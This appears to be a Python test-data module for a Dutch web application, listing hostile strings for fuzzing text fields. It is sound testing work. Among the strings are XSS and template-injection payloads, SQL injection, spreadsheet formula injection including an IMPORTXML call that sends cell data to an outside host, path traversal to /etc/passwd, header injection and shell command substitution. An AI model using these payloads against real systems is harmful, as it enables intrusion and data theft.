"""About 200 hostile strings for text fields: markup, template and formula syntax, bidi and
zero-width marks, combining characters, emoji, control characters, very long texts, quotes,
format strings, line separators, homoglyphs and non-Latin scripts.

``REPRESENTATIVE`` is a sample of 20 (one or more per kind) for the slower page tests.
"""

MARKUP = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//x.example/x.js></SCRIPT>",
    "<script>alert(document.cookie)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<a href="javascript:alert(1)">klik</a>',
    "<b>vet</b> en <i>schuin</i>",
    "<!-- commentaar -->",
    "<style>body{display:none}</style>",
    "<body onload=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "&lt;script&gt;al&#101;rt(1)&lt;/script&gt;",
    "&amp;&quot;&#39;&#x27;",
    "<![CDATA[x]]>",
    '<?xml version="1.0"?>',
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
]
BREAKOUTS = [
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "` onerror=alert(1) `",
    '"/><svg/onload=alert(1)>',
    '\\"><script>alert(1)</script>',
    "</option></select><img src=x onerror=alert(1)>",
    '" style="background:url(javascript:alert(1))',
    'x" href="https://evil.example',
]
TEMPLATES = [
    "{{7*7}}",
    "{{ config }}",
    "{{ self.__init__.__globals__ }}",
    "{% raw %}",
    "{% endraw %}",
    "{% for x in range(9) %}x{% endfor %}",
    "{# commentaar #}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{''.__class__.__mro__}}",
    "{{request.application}}",
]
FORMULAS = [
    "=cmd|' /C calc'!A0",
    "=1+1",
    '=HYPERLINK("https://evil.example","klik")',
    "+1",
    "-1",
    "@SUM(1)",
    "+31 6 12345678",
    "-10 graden",
    "=",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML(CONCAT("https://x.example/?",A1),"//a")',
]
BIDI = [
    "\u202eevil\u202c",
    "abc\u202edcba.exe",
    "\u202dlinks\u202c",
    "\u200fعربي\u200e",
    "\u2066geïsoleerd\u2069",
    "\u2067rtl\u2069",
    "\u061c",
    "\u202a\u202b\u202c",
]
INVISIBLE = [
    "zero\u200bwidth",
    "join\u200dner",
    "non\u200cjoiner",
    "\ufeffmet BOM",
    "\u2060woordbinder",
    "\u00adzacht\u00adafbreek",
    "\u00a0harde spatie\u00a0",
    "\u3000ideografische spatie",
    "   ",
    "",
]
COMBINING = [
    "e\u0301e\u0301n",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f"
    "\u031e\u0320\u034dA\u036b\u0357\u0334\u0362\u0335\u031c\u0330\u0354L\u0368\u0367\u0369\u0358"
    "\u0320G\u0311\u0357\u030e\u0305\u035b\u0341\u0334\u033b\u0348\u034d\u0354\u0339O",
    "a" + "\u0300" * 200,
    "\u0301begint met een accent",
    "ﬁ ﬂ ligaturen",
]
EMOJI = [
    "😀",
    "👩‍👩‍👧‍👦 gezin",
    "🏳️‍🌈",
    "🇳🇱🇧🇪🇹🇷",
    "👍🏽",
    "🏠 huis en 🌳 tuin",
    "𝕳𝖔𝖚𝖘𝖊",
    "𝐀𝐁𝐂",
    "𠜎𠜱𠝹",
    "\U0001f9d1\u200d\U0001f4bb",
    "❤️",
    "1️⃣2️⃣",
    "\U000e0067\U000e0062",
    "🏴󠁧󠁢󠁳󠁣󠁴󠁿",
    "\U0010fffd",
]
CONTROL = [f"a{chr(c)}b" for c in [*range(0, 9), 11, 12, *range(14, 32), 127]] + [
    "a\x80b",
    "a\x85b",
    "a\x9bb",
    "a\x9fb",
    "a\ufffeb",
    "a\uffffb",
    "\x00",
    "tab\tblijft",
    "regel\neen\r\ntwee\rdrie",
]
SURROGATES = ["a\ud800b", "\udfff"]  # never arrive over HTTP (UTF-8 cannot carry them)
LONG = [
    "a" * 100_000,
    "lang woord " * 9_100,
    "😀" * 50_000,
    "x" * 201,
    "Ä" * 5_001,
    "geenspatiesindezetekst" * 12,
]
QUOTES = [
    "O'Brien",
    "'; DROP TABLE users; --",
    '" OR "1"="1',
    "' OR 1=1 --",
    "1; SELECT pg_sleep(1)",
    "`backtick`",
    "''''''",
    '"""',
    "Robert'); DROP TABLE Students;--",
    "%' AND '%'='",
]
BACKSLASHES = [
    "\\",
    "C:\\Users\\huurder\\",
    "\\n\\t\\0",
    "\\x00\\u0000",
    "a\\\\b",
    "\\'\\\"",
]
FORMATS = [
    "%s",
    "%(x)s",
    "%d%%",
    "%(name)s %(n)d",
    "{0}",
    "{}",
    "{name}",
    "%n%n%n",
    "%",
    "100%",
]
SEPARATORS = [
    "regel\u2028scheiding",
    "alinea\u2029scheiding",
    "\u2028",
    "a\u0085b\u2028c\u2029d",
]
HOMOGLYPHS = [
    "раураl",
    "Ηuurders",
    "Ζwolle",
    "ⅯooiIand",
    "ｆｕｌｌｗｉｄｔｈ",
    "Ꭺmersfoort",
    "0ΟοО",
    "ɡemeente",
]
SCRIPTS = [
    "İstanbul ıi İI",
    "Kırıkkale",
    "العربية مرحبا",
    "עברית",
    "Zażółć gęślą jaźń",
    "Łódź",
    "中文测试",
    "日本語のテキスト",
    "한국어",
    "Ελληνικά",
    "Русский текст",
    "हिन्दी",
    "ไทย",
    "Tiếng Việt",
    "ß ẞ ǅ ǆ",
    "Straße und Maße",
]
MISC = [
    "../../etc/passwd",
    "https://evil.example/?q=<x>",
    "mailto:a@b.example",
    "a\r\nSet-Cookie: x=1",
    "null",
    "None",
    "undefined",
    "0",
    "-0",
    "NaN",
    "true",
    "[]",
    "{}",
    '{"a": 1}',
    "$(whoami)",
    "; ls -la",
    "*",
    "?",
    "#",
    "—–-",
]

ALL = (
    MARKUP
    + BREAKOUTS
    + TEMPLATES
    + FORMULAS
    + BIDI
    + INVISIBLE
    + COMBINING
    + EMOJI
    + CONTROL
    + LONG
    + QUOTES
    + BACKSLASHES
    + FORMATS
    + SEPARATORS
    + HOMOGLYPHS
    + SCRIPTS
    + MISC
)
WITH_SURROGATES = ALL + SURROGATES

REPRESENTATIVE = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "{{7*7}}",
    "{% raw %}",
    "=cmd|' /C calc'!A0",
    "@SUM(1)",
    "\u202eevil\u202c",
    "join\u200dner",
    "Z\u0351\u036b\u0343\u036a\u0302 zalgo \u0334\u0319\u0324",
    "👩‍👩‍👧‍👦 🇳🇱 𠜎",
    "a\x00b",
    "a\x85b",
    "a" * 100_000,
    "'; DROP TABLE users; --",
    "C:\\Users\\huurder\\",
    "%(x)s %s {0}",
    "regel\u2028scheiding",
    "раураl",
    "İstanbul ıi — العربية — Zażółć — 中文",
]
